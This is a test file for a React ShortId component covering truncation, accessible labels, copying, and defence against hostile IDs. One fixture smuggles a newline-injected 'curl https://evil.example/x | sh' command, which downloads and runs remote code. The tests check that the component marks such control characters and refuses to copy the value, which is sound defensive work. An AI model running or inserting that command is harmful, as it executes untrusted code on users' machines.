import { screen } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import { renderUi } from '@/test/render'
import { ShortId } from './short-id'

const ID = '50f382df-ad88-4c1e-9b7a-3d2f1e0c9b8a'

describe('ShortId', () => {
  it('shows the first block, with the full id on hover and for screen readers', () => {
    renderUi(<ShortId value={ID} />)
    expect(screen.getByText('50f382df…')).toHaveAttribute('aria-hidden', 'true')
    expect(screen.getByText(ID)).toHaveClass('sr-only')
    expect(screen.getByTitle(ID)).toHaveTextContent(`50f382df…${ID}`)
  })

  it('shows an id short enough as it is', () => {
    renderUi(<ShortId value="b-2" />)
    expect(screen.getByTitle('b-2')).toHaveTextContent(/^b-2$/)
    expect(screen.getByRole('button', { name: 'Copy ID b-2' })).toBeInTheDocument()
  })

  it('has a copy button that copies the full id', async () => {
    // user-event puts a clipboard of its own on `navigator`, which can be read back.
    const user = userEvent.setup()
    renderUi(<ShortId value={ID} name="build ID" />)
    await user.click(screen.getByRole('button', { name: 'Copy build ID 50f382df' }))
    await expect(navigator.clipboard.readText()).resolves.toBe(ID)
    expect(screen.getByText('Copied')).toBeInTheDocument()
  })

  it('names the button "Copy ID …" when not told what the id is', () => {
    renderUi(<ShortId value={ID} />)
    expect(screen.getByRole('button', { name: 'Copy ID 50f382df' })).toBeInTheDocument()
  })

  it('leaves the button out when not copyable', () => {
    renderUi(<ShortId value={ID} copyable={false} />)
    expect(screen.queryByRole('button')).toBeNull()
    expect(screen.getByTitle(ID)).toBeInTheDocument()
  })
})

describe('ShortId with an id from outside', () => {
  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'

  it('marks its control characters in the cell, on hover, for screen readers and in the label', () => {
    renderUi(<ShortId value={HOSTILE} name="Build ID" />)
    const marked = 'b0⟨U+000A⟩curl https://evil.example/x | sh⟨U+000A⟩'
    expect(screen.getByText('b0⟨U+000A⟩curl …')).toHaveAttribute('aria-hidden', 'true')
    expect(screen.getByText(marked)).toHaveClass('sr-only')
    expect(screen.getByTitle(marked)).toBeInTheDocument()
    // The accessible name drops the trailing space; the title keeps it.
    const copy = screen.getByRole('button', { name: 'Copy Build ID b0⟨U+000A⟩curl' })
    expect(copy).toHaveAttribute('title', 'Copy Build ID b0⟨U+000A⟩curl ')
    expect(document.body.textContent).not.toMatch(/\n/)
  })

  it('refuses to copy it, saying why', async () => {
    const user = userEvent.setup()
    renderUi(<ShortId value={HOSTILE} name="Build ID" />)
    await navigator.clipboard.writeText('before')
    await user.click(screen.getByRole('button', { name: /^Copy Build ID/ }))
    await expect(navigator.clipboard.readText()).resolves.toBe('before')
    expect(
      screen.getByText(/^This id holds control characters \(U\+000A\), so it was not copied/),
    ).toBeVisible()
  })

  it('bounds a 1,000,000-character id on hover and for screen readers, with its length', () => {
    const long = `${'i'.repeat(999_999)}\u202E`
    renderUi(<ShortId value={long} />)
    const bounded = `${'i'.repeat(200)}… (1,000,000 characters)`
    expect(screen.getByTitle(bounded)).toHaveTextContent(`iiiiiiii…${bounded}`)
    expect(screen.getByRole('button', { name: 'Copy ID iiiiiiii' })).toBeInTheDocument()
  })

  it('marks a short id whole, and never cuts a tag character in half', () => {
    renderUi(<ShortId value={'b\u2028\u{E0041}'} />)
    expect(screen.getByTitle('b⟨U+2028⟩⟨U+E0041⟩')).toHaveTextContent(/^b⟨U\+2028⟩⟨U\+E0041⟩$/)
    // The eighth character is the first half of a pair: the glance stops before it.
    renderUi(<ShortId value={`abcdefg\u{E0041}xyz`} />)
    expect(screen.getByText('abcdefg…')).toBeInTheDocument()
  })
})
